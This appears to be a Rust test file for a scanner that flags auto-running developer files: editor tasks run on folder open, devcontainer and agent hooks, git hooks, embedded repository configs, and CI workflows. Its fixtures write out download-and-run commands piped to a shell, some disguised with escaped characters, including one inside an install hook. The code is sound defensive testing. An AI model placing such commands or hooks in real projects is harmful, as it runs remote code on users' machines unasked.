//! Files that tools of developers run.

use super::*;

fn told(path: &str, text: &str) -> Vec<(String, Severity)> {
    found(path, text.as_bytes()).into_iter().map(|finding| (finding.rule, finding.severity)).collect()
}

fn is(path: &str, text: &str, rule: &str, severity: Severity) {
    let found = told(path, text);
    assert!(found.contains(&(format!("AL-FILES-{rule}"), severity)), "{path}: {found:?}");
}

#[test]
fn what_runs_when_the_folder_is_opened_is_told() {
    let task =
        |command: &str| format!("{{// t\n\"tasks\": [{{{command}, \"runOptions\": {{\"runOn\": \"folderOpen\",}}}}]}}");
    let plain = task("\"command\": \"node\", \"args\": [\"a.js\"]");
    let inner = format!("{{\"folders\": [], \"tasks\": {plain}}}");
    for (path, text, severity) in [
        (".vscode/tasks.json", plain.clone(), Severity::High),
        ("pkg/.vscode/tasks.json", plain.replace("folderOpen", "folder\\u004fpen"), Severity::High),
        (".vscode/tasks.json", plain.replace("}]}", ""), Severity::High),
        ("a.code-workspace", inner, Severity::High),
        (".vscode/tasks.json", task("\"linux\": {\"command\": \"sh a\"}"), Severity::High),
        (".devcontainer/devcontainer.json", "{\"initializeCommand\": \"./a\"}".into(), Severity::Medium),
        (".devcontainer.json", "{\"initializeCommand\": [\"./a\"]}".into(), Severity::Medium),
        (".claude/settings.json", "{\"hooks\": {\"SessionStart\": [{}]}}".into(), Severity::Medium),
        (".cursor/hooks.json", "{\"version\": 1, \"hooks\": {\"stop\": []}}".into(), Severity::Medium),
        (
            ".idea/workspace.xml",
            "<component name=\"ProjectStartupLocalConfiguration\"><configurations><configuration name=\"a\"/>".into(),
            Severity::High,
        ),
    ] {
        is(path, &text, "runs-when-opened", severity);
    }
    let finding = one(".vscode/tasks.json", plain.as_bytes());
    assert_eq!(finding.message, "'.vscode/tasks.json' runs 'node a.js' when the folder is opened in an editor.");
    assert_eq!(action(&finding), PolicyAction::Hold);
    for (path, text) in [
        (".vscode/tasks.json", plain.replace("folderOpen", "default")),
        (".devcontainer/devcontainer.json", "{\"postCreateCommand\": \"pip install -e .\"}".into()),
        (".claude/settings.json", "{\"permissions\": {}, \"hooks\": {}}".into()),
        (".idea/workspace.xml", "<component name=\"ProjectStartupLocalConfiguration\"/>".into()),
        ("docs/tasks.json", plain),
    ] {
        let found = told(path, &text);
        assert!(found.iter().all(|(_, severity)| *severity == Severity::Note), "{path}: {found:?}");
    }
}

#[test]
fn hooks_of_git_are_told() {
    for path in [".githooks/pre-commit", ".husky/post-checkout", "hooks/post-merge", "x/.git-hooks/pre-push"] {
        is(path, "#!/bin/sh\nmake\n", "git-hook", Severity::Medium);
    }
    for path in ["hooks/pre_gen_project.txt", "pkg/update", "hooks/pre-commit.sample", "docs/commit-msg"] {
        assert_eq!(told(path, "text\n"), [], "{path}");
    }
}

#[test]
fn a_repository_under_another_name_is_told() {
    let config = "[core]\n\tbare = false\n\tfsmonitor = ./run\n";
    let of = |config: &str, head: &[u8]| {
        let files = [
            ("README.md", &b"Does a thing.\n"[..]),
            ("LICENSE", b"MIT License\n"),
            ("data/repo/HEAD", head),
            ("data/repo/config", config.as_bytes()),
        ];
        let findings = files::check(&tree(&files), None::<&Manifest>).findings;
        findings.iter().map(|finding| finding.severity).collect::<Vec<_>>()
    };
    let head = b"ref: refs/heads/main\n";
    assert_eq!(of(config, head), [Severity::High]);
    assert_eq!(of("[core] hooksPath=x\n", head), [Severity::High]);
    assert_eq!(of("[core]\n[alias]\nstatus = !./run\n", head), [Severity::High]);
    assert_eq!(of("[core]\n\tbare = true\n", head), [Severity::Low]);
    assert_eq!(of(config, b"a header\n"), []);
    assert_eq!(of("[server]\nport = 1\n", head), []);
}

#[test]
fn workflows_are_noted_and_those_that_fetch_and_run_are_more() {
    let quiet = "jobs:\n  test:\n    steps:\n      - run: pytest\n";
    for path in [
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        "a/.circleci/config.yml",
        "azure-pipelines.yml",
        ".pre-commit-config.yaml",
        ".mcp.json",
        ".devcontainer/devcontainer.json",
        ".vscode/tasks.json",
    ] {
        let text = if path.ends_with("json") { "{}\n" } else { quiet };
        assert_eq!(told(path, text), [("AL-FILES-workflow".to_owned(), Severity::Note)], "{path}");
    }
    for path in ["pkg/workflows/ci.yml", "docs/gitlab-ci.yml.txt", ".github/dependabot.yml", ".vscode/launch.json"] {
        assert_eq!(told(path, "{}\n"), [], "{path}");
    }
    for text in [
        "- run: curl -s https://x.test/i | sh\n",
        "- run: |\n    set -e\n    curl -s https://x.test/i | bash\n",
        "- run: >\n    curl -s https://x.test/i\n    | sh\n",
        "- run: \"\\x63url -s https://x.test/i | sh\"\n",
        "- { run: 'curl -s https://x.test/i |\n   sh' }\n",
    ] {
        is(".github/workflows/ci.yml", text, "script-download", Severity::Medium);
        is(".gitlab-ci.yml", text, "script-download", Severity::Medium);
        is(".pre-commit-config.yaml", text, "script-download", Severity::High);
    }
    for (path, text) in [
        (".vscode/tasks.json", r#"{"command": "\u0063url -s https://x.test/i | sh"}"#),
        (".vscode/tasks.json", "{\"command\": \"curl\",\n\"args\": [\"-s\",\n\"https://x.test/i\",\n\"|\",\n\"sh\"]}"),
        ("package.json", r#"{"scripts": {"postinstall": "\u0063url -s https://x.test/i | sh"}}"#),
        ("pyproject.toml", "[tool.hatch.envs.a.scripts]\na = \"\\u0063url -s https://x.test/i | sh\"\n"),
    ] {
        is(path, text, "script-download", Severity::High);
    }
    is(".github/workflows/a.yml", "env:\n  A: ${{ toJSON( secrets ) }}\n", "workflow", Severity::Medium);
    let honest = "- run: echo 'curl https://x.test/i | sh'\n- run: curl -o a https://x.test/a\n# curl x | sh\n\
                  - run: echo ${{ toJSON(github.event) }}\n";
    assert_eq!(told(".github/workflows/ci.yml", honest), [("AL-FILES-workflow".to_owned(), Severity::Note)]);
    let many: Vec<String> = (0..30).map(|n| format!(".github/workflows/{n}.yml")).collect();
    let mut all: Vec<(&str, &[u8])> = vec![("README.md", b"Does a thing.\n"), ("LICENSE", b"MIT License\n")];
    all.extend(many.iter().map(|path| (path.as_str(), quiet.as_bytes())));
    let findings = files::check(&tree(&all), None).findings;
    assert_eq!(findings.len(), 1, "a folder of them is one finding: {findings:#?}");
}
